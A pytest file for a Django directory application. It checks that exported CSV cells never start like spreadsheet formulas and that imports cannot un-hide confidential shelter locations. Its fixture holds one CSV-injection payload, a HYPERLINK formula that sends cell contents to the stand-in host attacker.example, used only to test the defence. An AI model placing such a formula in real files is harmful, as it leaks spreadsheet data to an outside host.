"""The resource directory's safety at its edges: an exported HSDS package holds no cell a
spreadsheet would run as a formula, and an imported package never lowers a place's
confidentiality (only an administrator does, in Pillars)."""

from __future__ import annotations

import base64
import csv
import io
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import Client
from django.urls import reverse

from pillars.audit.models import AuditEvent
from pillars.core.exports import FORMULA_STARTS
from pillars.core.tokens import create_token
from pillars.people.testing import World
from pillars.recovery.hsds import sample, spec
from pillars.recovery.models import Address, HsdsService, Location
from pillars.recovery.services import directory as services
from pillars.recovery.tests.test_directory import CONFIDENTIAL_STREET, edited, package, snapshot

FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"Open")'


@pytest.fixture
def loaded(world: World) -> World:
    services.import_package(package(), actor=world.user("admin"), commit=True)
    return world


def _rows(files: dict[str, bytes], name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(files[name].decode())))


def _renamed(files: dict[str, bytes], service_id: str) -> dict[str, bytes]:
    def edit(rows: list[dict[str, str]]) -> None:
        for row in rows:
            if row["id"] == service_id:
                row["name"] = FORMULA
                row["description"] = "-1 bed left; +1 on Fridays"
                row["alternate_name"] = "@once"

    return edited(files, "services.csv", edit)


# --- CSV injection ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_an_exported_cell_never_starts_like_a_formula(loaded: World) -> None:
    admin = loaded.user("admin")
    target = HsdsService.objects.order_by("pk").first()
    assert target is not None
    report = services.import_package(
        _renamed(package(), str(target.public_id)), actor=admin, commit=True
    )
    assert report.ok, report.problems[:5]
    target.refresh_from_db()
    assert target.name == FORMULA  # stored as the publisher wrote it

    files = services.export_package(actor=admin)
    row = next(r for r in _rows(files, "services.csv") if r["id"] == str(target.public_id))
    assert row["name"] == "'" + FORMULA
    assert row["description"] == "'-1 bed left; +1 on Fridays"
    assert row["alternate_name"] == "'@once"
    numeric = {
        (spec.file_names()[t], c)
        for t in spec.file_names()
        for c, kind in spec.field_types(t).items()
        if kind in ("number", "integer")
    }
    for name, _data in files.items():
        if name.endswith(".csv"):
            for row in _rows(files, name):
                for column, cell in row.items():
                    if (name, column) not in numeric:
                        assert not cell.startswith(FORMULA_STARTS), (name, column, cell)
    # Numbers stay numbers: a negative longitude is not a formula, and HSDS types it a number.
    longitudes = [r["longitude"] for r in _rows(files, "locations.csv") if r["longitude"]]
    assert longitudes
    assert all(float(lon) < 0 for lon in longitudes)

    # The API's copy of the package is the same files.
    _, secret = create_token(admin, name="t", scopes=["read", "write"], days=1)
    api = Client(headers={"Authorization": f"Bearer {secret}"})
    texts = api.get("/api/v1/directory/export").json()["files"]
    served = {"services.csv": texts["services.csv"].encode()}
    row = next(r for r in _rows(served, "services.csv") if r["id"] == str(target.public_id))
    assert row["name"] == "'" + FORMULA


@pytest.mark.django_db
def test_a_neutralized_export_imports_back_unchanged(loaded: World) -> None:
    """The leading quote is the export's, not the publisher's: importing the export changes
    nothing, so the directory's round trip holds for text that starts like a formula."""
    admin = loaded.user("admin")
    target = HsdsService.objects.order_by("pk").first()
    assert target is not None
    services.import_package(_renamed(package(), str(target.public_id)), actor=admin, commit=True)
    before = snapshot()
    report = services.import_package(services.export_package(actor=admin), actor=admin, commit=True)
    assert report.ok, report.problems[:5]
    assert report.total("updated") == 0
    assert snapshot() == before
    target.refresh_from_db()
    assert target.name == FORMULA


def test_the_sample_package_is_written_inert_too(tmp_path: Any) -> None:
    """Every CSV the directory writes goes through the one neutralizing rule."""
    tables = sample.rows(2)
    tables["service"][0]["name"] = FORMULA
    files = sample.csv_files(tables)
    assert _rows(files, "services.csv")[0]["name"] == "'" + FORMULA


# --- Confidential places --------------------------------------------------------------------


def _lowered(files: dict[str, bytes]) -> dict[str, bytes]:
    """The package saying every place and service is not confidential."""

    def lower(rows: list[dict[str, str]]) -> None:
        for row in rows:
            row["x_confidential"] = "false"

    return edited(edited(files, "locations.csv", lower), "services.csv", lower)


@pytest.mark.django_db
def test_an_import_never_lowers_confidentiality(loaded: World) -> None:
    admin = loaded.user("admin")
    shelters = list(HsdsService.objects.filter(x_confidential=True).order_by("name"))
    places = list(Location.objects.filter(x_confidential=True))
    assert len(shelters) == 2
    assert len(places) == 2
    lowered = _lowered(package())

    report = services.import_package(lowered, actor=admin, commit=True)
    assert report.ok
    assert report.committed
    assert HsdsService.objects.filter(x_confidential=True).count() == 2
    hidden = Location.objects.filter(pk__in=[p.pk for p in places])
    assert all(p.x_confidential for p in hidden)
    assert all(p.latitude is None and p.longitude is None for p in hidden)
    assert not Address.objects.filter(location__in=hidden).exists()
    assert not Address.objects.filter(address_1__contains=CONFIDENTIAL_STREET).exists()
    assert report.total("withheld") == 2
    files = services.export_package(actor=admin)
    assert all(CONFIDENTIAL_STREET not in data.decode() for data in files.values())

    assert len(report.kept) == 4
    assert any(
        line.startswith(f"kept confidential: {shelters[1].name} (services.csv row ")
        for line in report.kept
    )
    assert "kept confidential: Safe Harbor shelter (locations.csv row " in report.summary()
    event = AuditEvent.objects.filter(action="import").latest("pk")
    assert event.detail["kept_confidential"] == 4

    # A check of the same package (nothing written) names the same rows.
    check = services.import_package(lowered, actor=admin)
    assert not check.committed
    kept = [f"kept confidential: {s.name}" for s in shelters]
    kept += ["kept confidential: Safe Harbor shelter"] * 2
    assert sorted(line.split(" (")[0] for line in check.kept) == sorted(kept)
    assert "kept confidential: " + shelters[0].name in check.summary()
    _, secret = create_token(admin, name="t", scopes=["read", "write"], days=1)
    api = Client(headers={"Authorization": f"Bearer {secret}"})
    body = {"package_base64": base64.b64encode(services.zip_files(lowered)).decode()}
    answer = api.post("/api/v1/directory/import", body, content_type="application/json")
    assert answer.status_code == 200, answer.content
    assert sorted(answer.json()["kept_confidential"]) == sorted(check.kept)


@pytest.mark.django_db
def test_a_place_kept_through_its_stored_service(loaded: World) -> None:
    """A package that lowers the place but not its service (or brings the place without its
    service) keeps the place as confidential as the service Pillars holds."""
    admin = loaded.user("admin")
    place = Location.objects.filter(x_confidential=True).first()
    assert place is not None

    def lower_places(rows: list[dict[str, str]]) -> None:
        for row in rows:
            row["x_confidential"] = "false"

    only_places = {
        name: data
        for name, data in edited(package(), "locations.csv", lower_places).items()
        if name in ("organizations.csv", "locations.csv", "addresses.csv")
    }
    report = services.import_package(only_places, actor=admin, commit=True)
    assert report.ok, report.problems[:5]
    assert [line.split(" (")[0] for line in report.kept] == [
        "kept confidential: Safe Harbor shelter"
    ] * 2
    place.refresh_from_db()
    assert place.x_confidential
    assert not Address.objects.filter(location=place).exists()


@pytest.mark.django_db
def test_an_administrator_unflags_a_place_in_pillars(loaded: World) -> None:
    admin = loaded.user("admin")
    shelter = HsdsService.objects.filter(x_confidential=True).order_by("pk").first()
    assert shelter is not None
    place = shelter.service_at_locations.get().location
    assert place.x_confidential

    with pytest.raises(PermissionDenied):
        services.set_confidential(
            place, actor=loaded.user("director"), confidential=False, reason="Moved"
        )
    with pytest.raises(ValidationError) as error:
        services.set_confidential(place, actor=admin, confidential=False, reason=" ")
    assert "reason" in error.value.message_dict
    place.refresh_from_db()
    assert place.x_confidential

    reason = "The shelter closed; this address is now the agency's public office."
    services.set_confidential(shelter, actor=admin, confidential=False, reason=reason)
    services.set_confidential(place, actor=admin, confidential=False, reason=reason)
    place.refresh_from_db()
    shelter.refresh_from_db()
    assert not place.x_confidential
    assert not shelter.x_confidential
    event = AuditEvent.objects.filter(action="update", object_id=str(place.public_id)).get()
    assert event.detail["changes"] == {"x_confidential": {"old": True, "new": False}}
    assert event.detail["reason"] == reason

    # The next package that gives the place's address now stores it, and keeps nothing back
    # for this place (the other shelter is still confidential).
    report = services.import_package(_lowered(package()), actor=admin, commit=True)
    assert len(report.kept) == 2
    assert all(shelter.name not in line for line in report.kept)
    place.refresh_from_db()
    assert not place.x_confidential
    assert place.latitude is not None
    assert Address.objects.filter(location=place, address_1__contains=CONFIDENTIAL_STREET).exists()


@pytest.mark.django_db
def test_flagging_a_service_in_pillars_withholds_its_places(loaded: World) -> None:
    admin = loaded.user("admin")
    service = HsdsService.objects.filter(x_confidential=False).order_by("pk").first()
    assert service is not None
    place = service.service_at_locations.get().location
    assert place.latitude is not None
    assert place.addresses.exists()

    services.set_confidential(
        service, actor=admin, confidential=True, reason="A shelter now works from here."
    )
    place.refresh_from_db()
    service.refresh_from_db()
    assert service.x_confidential
    assert place.x_confidential
    assert place.latitude is None
    assert place.longitude is None
    assert not place.addresses.exists()
    report = services.import_package(package(), actor=admin, commit=True)
    place.refresh_from_db()
    assert place.x_confidential
    assert not place.addresses.exists()
    assert report.ok


@pytest.mark.django_db
def test_the_operator_flags_a_place_on_the_service_page(loaded: World, signed_in: Any) -> None:
    service = HsdsService.objects.filter(x_confidential=False).order_by("pk").first()
    assert service is not None
    place = service.service_at_locations.get().location
    admin = signed_in("admin")
    page = admin.get(reverse("recovery:directory-service", args=[service.public_id]))
    url = reverse("recovery:directory-confidentiality", args=[service.public_id])
    assert url in page.content.decode()
    form = admin.get(url)
    assert form.status_code == 200
    assert place.name in form.content.decode()

    refused = admin.post(url, {"record": str(place.public_id), "confidential": "yes", "reason": ""})
    assert refused.status_code == 200
    assert "There is a problem" in refused.content.decode()
    place.refresh_from_db()
    assert not place.x_confidential

    done = admin.post(
        url,
        {"record": str(place.public_id), "confidential": "yes", "reason": "A shelter opened."},
    )
    assert done.status_code == 302
    place.refresh_from_db()
    assert place.x_confidential
    assert not place.addresses.exists()
    # Nobody else is offered the page, and a director is refused it.
    director = signed_in("director")
    seen = director.get(reverse("recovery:directory-service", args=[service.public_id]))
    assert url not in seen.content.decode()
    assert director.get(url).status_code == 403
